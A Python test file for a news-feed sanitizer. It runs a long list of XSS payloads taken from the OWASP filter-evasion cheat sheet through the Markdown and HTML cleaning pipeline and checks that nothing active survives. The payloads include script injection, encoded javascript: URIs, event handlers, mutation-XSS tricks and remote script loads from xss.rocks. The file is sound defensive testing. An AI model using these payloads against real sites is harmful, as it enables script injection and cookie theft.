"""Sanitizing: the allow-list, XML-compatible output, and XSS vectors through the whole pipeline.

The vectors follow the OWASP XSS filter-evasion cheat sheet, plus Markdown's own
link forms and a few mutation-XSS classics; each goes through render_markdown and
clean_body, and nothing active may come out.
"""

import html as html_module

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from feeds.content.cleaning import clean_body
from feeds.content.cleaning.generic import remove_xml_forbidden_characters
from feeds.content.cleaning.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    parse_fragment,
    sanitize,
    serialize_fragment,
)
from feeds.content.markdown import render_markdown
from feeds.content.summary import MAX_CHARS

BASE = "https://finews.withounder.com/emnews/2022/01/21/202201212257099936.html"
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")

XSS_VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">click</a>",
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="java&#0;script:alert(1)">click</a>',
    '<a href="java\x00script:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="VBScript:MsgBox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="DaTa:text/html,x">click</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<body onload=alert(1)>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIw"'
    ' type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<base href="javascript:alert(\'XSS\');//"><a href="x">x</a>',
    '<img srcset="javascript:alert(1) 1x" src="https://x.example/a.png">',
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!-- <script>alert(1)</script> -->",
    "<p <script>alert(1)</script>>",
    "<div><p><b><script>alert(1)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    '<a href="https://ok.example/" onclick="alert(1)" style="x:expression(alert(1))">ok</a>',
    '<img src="https://ok.example/a.png" onerror="alert(1)" alt="ok">',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "> <script>alert(1)</script>\n\n- <img src=x onerror=alert(1)>",
]


def dangerous(url: str) -> bool:
    """Tell whether a URL, decoded and with blanks and controls removed, uses a bad scheme."""
    squeezed = "".join(char for char in html_module.unescape(url) if char.isprintable())
    squeezed = "".join(squeezed.split()).lower()
    return squeezed.startswith(BAD_SCHEMES)


def assert_inert(fragment: str) -> None:
    """Fail if a cleaned fragment holds an element, attribute or URL that could run."""
    for root in (
        etree.fromstring(f"<div>{fragment}</div>"),
        lxml.html.fragment_fromstring(fragment, create_parent="div"),
    ):
        for element in root.iter():
            if element is root:
                continue
            assert element.tag in ALLOWED_TAGS, element.tag
            allowed = ALLOWED_ATTRIBUTES.get(element.tag, frozenset())
            for name, value in element.attrib.items():
                assert name in allowed, (element.tag, name)
                assert not name.lower().startswith("on")
                assert not dangerous(value), value
                if name in {"href", "src"}:
                    assert value.startswith(SAFE_URL_PREFIXES), value
    lowered = fragment.lower()
    for tag in ("<script", "<svg", "<iframe", "<object", "<embed", "<meta", "<style", "<form"):
        assert tag not in lowered
    for tag in ("<math", "<base", "<link", "<frame", "<input", "<textarea", "<noscript"):
        assert tag not in lowered


def test_there_are_plenty_of_vectors() -> None:
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize("profile", ["finews", "generic"])
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_does_not_survive(vector: str, profile: str) -> None:
    body = f"正文开始。\n\n{vector}\n\n正文结束。"
    result = clean_body(render_markdown(body), base_url=BASE, profile=profile)
    assert_inert(result.html)
    assert "正文开始。" in result.html


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_in_front_matter_attribution_is_inert(vector: str) -> None:
    result = clean_body("<p>x</p>", base_url=BASE, outlet=vector, original_url=vector)
    assert_inert(result.html)
    assert result.original_url is None or result.original_url.startswith(("http://", "https://"))


SANITIZED = [
    ('<p onclick="x">a</p>', "<p>a</p>"),
    (
        '<a href="http://x.example/" target="_blank" rel="nofollow">a</a>',
        '<a href="http://x.example/">a</a>',
    ),
    (
        '<img src="https://x.example/a.jpg" alt="a" width="1">',
        '<img src="https://x.example/a.jpg" alt="a">',
    ),
    ('<a href="/relative">a</a><a href="//x.example/">b</a>', "<a>a</a><a>b</a>"),
    ('<a href="mailto:a@b.example">m</a>', '<a href="mailto:a@b.example">m</a>'),
    ("<span>x</span><center>y</center><font>z</font>", "xyz"),
    ("<p>a<!-- c --></p>", "<p>a</p>"),
    ("<script>alert(1)</script><style>p{}</style>t", "t"),
    ('<td colspan="2">x</td>', "x"),
    (
        '<table><tr><td colspan="2" id="c">x</td></tr></table>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    ),
    (
        '<figure><img src="https://x.example/a.jpg"><figcaption>图源：央视新闻</figcaption></figure>',
        '<figure><img src="https://x.example/a.jpg"><figcaption>图源：央视新闻</figcaption></figure>',
    ),
    ("a\x01b&#1;c&#xFFFF;d", "abcd"),
]


@pytest.mark.parametrize(("html", "expected"), SANITIZED)
def test_sanitize(html: str, expected: str) -> None:
    assert sanitize(html) == expected


SERIALIZED = [
    ("<p>a<br>b</p>", "<p>a<br/>b</p>"),
    (
        '<img src="https://x.example/a?b=1&amp;c=2" alt="K">',
        '<img src="https://x.example/a?b=1&amp;c=2" alt="K"/>',
    ),
    (
        '<p><a href="https://x.example/"></a>x<strong></strong></p>',
        '<p><a href="https://x.example/"></a>x<strong></strong></p>',
    ),
    ("<p>a&nbsp;b &amp; &lt;c&gt;</p>", "<p>a\u00a0b &amp; &lt;c&gt;</p>"),
    ("lead <p>x</p> tail", "lead <p>x</p> tail"),
    ("<p>&lt;&gt;</p>\n<p>y</p>", "<p>&lt;&gt;</p>\n<p>y</p>"),
    ("", ""),
]


@pytest.mark.parametrize(("html", "expected"), SERIALIZED)
def test_serialize_fragment_is_xml_and_html(html: str, expected: str) -> None:
    serialized = serialize_fragment(parse_fragment(html))
    assert serialized == expected
    etree.fromstring(f"<div>{serialized}</div>")


FRAGMENTS = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<a href='javascript:x'>",
        "<a href='//finews.withounder.com/'>",
        "</a>",
        "<img src=x onerror=y>",
        "<center>",
        "</center>",
        "<br>",
        "<script>",
        "</script>",
        "<!--",
        "-->",
        "<svg>",
        "<math>",
        "<table><tr><td>",
        "&",
        "&#0;",
        "&#xFFFF;",
        "<",
        ">",
        "'",
        '"',
        "\r\n",
        "\n\n",
        "文字。",
        "<span id='stock_1'>",
        "</span>",
        '<p style="display:none">',
        "<http://a.example/x,1.html>",
        "（文章来源：上海证券报）",
    ]
)
BODIES = st.one_of(st.text(), st.lists(st.one_of(FRAGMENTS, st.text(max_size=5))).map("".join))


@settings(max_examples=150, deadline=None)
@given(body=BODIES)
def test_any_body_comes_out_well_formed_and_inert(body: str) -> None:
    result = clean_body(render_markdown(body), base_url=BASE)
    assert_inert(result.html)
    assert remove_xml_forbidden_characters(result.html) == result.html
    assert len(result.summary) <= MAX_CHARS
